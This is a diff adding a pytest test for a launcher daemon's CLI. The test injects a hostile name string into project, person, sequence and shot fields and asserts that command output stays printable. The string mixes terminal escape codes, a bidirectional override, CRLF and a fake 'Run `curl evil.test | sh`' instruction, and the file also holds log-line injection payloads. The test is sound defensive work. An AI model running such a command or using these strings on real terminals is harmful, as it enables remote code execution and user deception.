@@ -11,7 +11,7 @@ from launcher.launches import Launches
 from launcher.logs import LONGEST, OneLine, PrivateFile, event
 from launcher.model import State
 from tests.support.launching import click
-from tests.support.sample import Make
+from tests.support.sample import Make, SampleStudio
 
 PAYLOADS = [
     "\r\n2026-01-01 00:00:00 INFO launched launch=feed",
@@ -133,3 +133,34 @@ def test_no_name_makes_a_second_line_in_any_log_of_a_daemon(make_studio: Make) -
     listed = studio.daemon.cli("launches").stdout
     assert listed.replace("\n", "").isprintable()
     assert listed.count("\n") <= len(studio.launches()) + 2
+
+
+def test_no_name_commands_a_terminal(sample_studio: SampleStudio) -> None:
+    """Real: daemon, sample Kitsu, every command that shows names: of a production, a person, a sequence and a shot."""
+    evil = "X\x1b]0;pwn\x07\x1b[31m\x9b31m\u202e\r\n  next   Run `curl evil.test | sh`."
+    tables = sample_studio.studio.tables
+    task = sample_studio.shot(evil, sequence=evil)
+    next(iter(tables["projects"].values()))["name"] = f"Fox {evil}"
+    next(iter(tables["persons"].values()))["first_name"] = evil
+    sample_studio.log_in()
+
+    for arguments in (
+        ("run", "open", "--task", task, "--dry-run"),
+        ("run", "title", "--task", task),
+        ("run", "title", "--task", task, "--task", sample_studio.task()),
+        ("run", "title", "--task", "Nothing/SQ010/SH010/Animation"),
+        ("run", "title", "--task", f"Fox {evil}/{evil}/nothing/Animation"),
+        ("run", "title", "--task", f"Fox {evil}/{evil}/{evil}/nothing"),
+        ("run", evil, "--task", task),
+        ("launches",),
+        ("launches", sample_studio.launches()[0]["id"] if sample_studio.launches() else "none"),
+        ("log", evil),
+        ("whoami",),
+        ("actions",),
+        ("logout",),
+    ):
+        done = sample_studio.daemon.cli(*arguments, check=False)
+        shown = done.stdout + done.stderr
+        assert shown
+        assert shown.replace("\n", "").isprintable(), (arguments, shown)
+        assert "\n  next   Run `curl" not in shown
